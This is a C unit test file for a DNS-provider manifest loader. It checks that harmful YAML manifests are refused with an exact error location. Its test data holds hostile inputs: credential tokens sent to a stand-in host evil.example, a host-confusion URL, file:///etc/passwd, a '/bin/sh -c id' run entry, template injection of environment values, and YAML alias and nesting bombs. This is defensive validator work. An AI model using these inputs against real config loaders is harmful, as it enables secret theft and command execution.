/* SEES: base config crypto dns-providers */
#include "dns-providers/manifest/manifest.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>

#include <cmocka.h>

/* Manifests that would do harm: each is refused as it is loaded, with the line. */

#define HEAD                                                                                       \
    "manifest: 1\n"                                                                                \
    "id: lantern\n"                                                                                \
    "name: Lantern\n"                                                                              \
    "status: trial\n"                                                                              \
    "credentials: {token: {help: A token.}}\n"                                                     \
    "ttl: {default: 60}\n"                                                                         \
    "zone: {by: soa}\n"                                                                            \
    "model: value\n"
#define AT   "base: https://api.lantern.example\nhosts: [api.lantern.example]\n"
#define ADD  "add: {method: POST, path: /add}\n"
#define GONE "remove: {method: POST, path: /remove}\n"

static void assert_refused(const char *text, const char *place, const char *words)
{
    const struct dns_provider *provider = NULL;
    struct err err = {0};
    AUTO(mem_fini)
    char *at = mem_printf("x.yaml:%s: ", place);
    if (manifest_load(str_of(text), "x.yaml", &provider, &err))
        fail_msg("taken: %s", text);
    assert_int_equal(err.kind, ERR_CONFIG);
    if (strstr(err.text, at) == NULL || strstr(err.text, words) == NULL)
        fail_msg("expected %s and \"%s\" in: %s", at, words, err.text);
}

static void test_manifest_when_it_is_harmless_then_it_loads(void **state)
{
    const struct dns_provider *provider = NULL;
    struct err err = {0};
    (void)state;
    if (!manifest_load(STR(HEAD AT ADD GONE), "x.yaml", &provider, &err))
        fail_msg("%s", err.text);
    assert_string_equal(provider->name, "lantern");
    assert_true(provider->is_pinned);
    manifest_free(provider);
}

static void test_manifest_when_a_secret_would_go_elsewhere_then_refused(void **state)
{
    (void)state;
    assert_refused(HEAD "base: https://evil.example/?\nhosts: [api.lantern.example]\n" ADD GONE,
                   "9:1", "would go to evil.example, which \"hosts\" does not name");
    assert_refused(HEAD AT "add: {method: POST, base: https://evil.example, path: /x, headers: {A: "
                           "\"{cred.token}\"}}\n" GONE,
                   "11:21", "would go to evil.example");
    assert_refused(
        HEAD AT "define:\n  steal: {method: GET, base: https://evil.example, path: /x}\n" ADD GONE,
        "12:24", "would go to evil.example");
    assert_refused(HEAD "base: https://api.lantern.example@evil.example\nhosts: "
                        "[api.lantern.example]\n" ADD GONE,
                   "9:1", "is no host name");
    assert_refused(HEAD "base: http://api.lantern.example\nhosts: [api.lantern.example]\n" ADD GONE,
                   "9:1", "base must be https");
    assert_refused(HEAD "base: file:///etc/passwd\nhosts: [api.lantern.example]\n" ADD GONE, "9:1",
                   "base must be https");
    assert_refused(HEAD "base: https://api.lantern.example\n" ADD GONE, "9:1",
                   "\"hosts\" must name every host");
    assert_refused(
        HEAD "base: https://api.lantern.example\nhosts: [\"*\", api.lantern.example]\n" ADD GONE,
        "10:9", "a host name is expected");
}

static void test_manifest_when_it_wants_what_is_not_in_the_grammar_then_refused(void **state)
{
    (void)state;
    assert_refused(HEAD AT "run: [/bin/sh, -c, id]\n" ADD GONE, "11:1", "unknown member \"run\"");
    assert_refused(HEAD AT "include: /etc/passwd\n" ADD GONE, "11:1", "unknown member \"include\"");
    assert_refused(HEAD AT "add: {method: POST, path: /x, redirect: true}\n" GONE, "11:31",
                   "unknown member \"redirect\"");
    assert_refused(HEAD AT "add: {method: POST, path: \"/{env.HOME}\"}\n" GONE, "11:27",
                   "{env.HOME}");
    assert_refused(HEAD AT "add: {method: POST, path: \"/{cred.token|file}\"}\n" GONE, "11:27",
                   "filter");
    assert_refused(HEAD AT "add: {method: POST, path: \"/{cred.other}\"}\n" GONE, "11:27",
                   "cred.other");
    assert_refused(HEAD AT "add: {method: TRACE, path: /x}\n" GONE, "11:7", "method is one of");
}

static void test_manifest_when_it_is_a_bomb_then_refused(void **state)
{
    (void)state;
    assert_refused("manifest: 1\nname: &a [x, x]\nhosts: [*a, *a]\n", "2:7", "anchor");
    assert_refused("manifest: 1\nname: !!binary aGk=\n", "2:7", "tag");
    assert_refused("manifest: 1\nid: a\nid: b\n", "3:1", "\"id\"");
    AUTO(buf_fini)
    struct buf deep = BUF(64 * 1024);
    buf_add_cstr(&deep, HEAD AT "add: {method: POST, path: /x, json: ");
    for (int i = 0; i < 5000; i++)
        buf_add_char(&deep, '[');
    assert_refused(buf_cstr(&deep), "11:67", "nested deeper than 32 levels");
    AUTO(buf_fini)
    struct buf wide = BUF(2 * 1024 * 1024);
    buf_add_cstr(&wide, HEAD AT "aliases: [");
    for (int i = 0; i < 120000; i++)
        buf_add_cstr(&wide, "a,");
    buf_add_cstr(&wide, "a]\n" ADD GONE);
    assert_refused(buf_cstr(&wide), "11:199947", "more than 100000 values");
}

static void test_manifest_when_it_is_cut_anywhere_then_it_is_refused_and_nothing_breaks(
    void **state)
{
    static const char whole[] = HEAD AT ADD GONE;
    (void)state;
    for (size_t len = 0; len + 20 < sizeof whole; len++) {
        const struct dns_provider *provider = NULL;
        struct err err = {0};
        assert_false(manifest_load(str_mem(whole, len), "x.yaml", &provider, &err));
        assert_true(str_starts(str_of(err.text), STR("x.yaml")));
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_manifest_when_it_is_harmless_then_it_loads),
        cmocka_unit_test(test_manifest_when_a_secret_would_go_elsewhere_then_refused),
        cmocka_unit_test(test_manifest_when_it_wants_what_is_not_in_the_grammar_then_refused),
        cmocka_unit_test(test_manifest_when_it_is_a_bomb_then_refused),
        cmocka_unit_test(
            test_manifest_when_it_is_cut_anywhere_then_it_is_refused_and_nothing_breaks),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
